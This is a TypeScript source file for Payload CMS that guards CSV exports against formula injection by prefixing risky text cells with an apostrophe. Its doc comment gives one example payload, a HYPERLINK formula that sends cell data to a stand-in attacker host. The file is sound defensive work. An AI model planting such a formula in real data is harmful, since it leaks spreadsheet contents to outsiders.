import type { CollectionConfig, Field } from 'payload'

/**
 * CSV cells a spreadsheet would run as a formula (OWASP, "CSV Injection"): text that starts with
 * `=`, `+`, `-`, `@`, a tab or a carriage return is written with a leading `'`, which spreadsheets
 * show as text and do not display. A name like `=HYPERLINK("https://evil.example/?"&A1)` sent
 * through the contact form reaches the creator's spreadsheet as the words it is.
 */
const formulaSafeCell = (value: unknown): unknown =>
  typeof value === 'string' && /^[=+\-@\t\r]/.test(value) ? `'${value}` : value

/** Fields whose value is text a visitor may have typed (dates, numbers and ids are not). */
const TEXT_FIELDS = new Set(['text', 'textarea', 'email', 'code', 'select', 'radio'])

const beforeExport = ({ format, value }: { format?: string; value: unknown }) => {
  if (format === 'json') return value
  return Array.isArray(value) ? value.map(formulaSafeCell) : formulaSafeCell(value)
}

const withSafeText = (field: Field): Field => {
  if ('fields' in field && Array.isArray(field.fields)) return { ...field, fields: field.fields.map(withSafeText) } as Field
  if (field.type === 'tabs') return { ...field, tabs: field.tabs.map((tab) => ({ ...tab, fields: tab.fields.map(withSafeText) })) }
  if (field.type === 'blocks') return { ...field, blocks: field.blocks.map((block) => ({ ...block, fields: block.fields.map(withSafeText) })) }
  if (!TEXT_FIELDS.has(field.type)) return field
  const custom = (field.custom ?? {}) as Record<string, Record<string, unknown> | undefined>
  const own = custom['plugin-import-export'] ?? {}
  const hooks = (own.hooks ?? {}) as Record<string, unknown>
  // A field that says how it is exported keeps its own way.
  if (hooks.beforeExport || own.toCSV) return field
  return { ...field, custom: { ...custom, 'plugin-import-export': { ...own, hooks: { ...hooks, beforeExport } } } } as Field
}

/** The collection with every text field written formula-safe in the import-export plugin's CSV. */
export const formulaSafeExport = (collection: CollectionConfig): CollectionConfig => ({ ...collection, fields: collection.fields.map(withSafeText) })
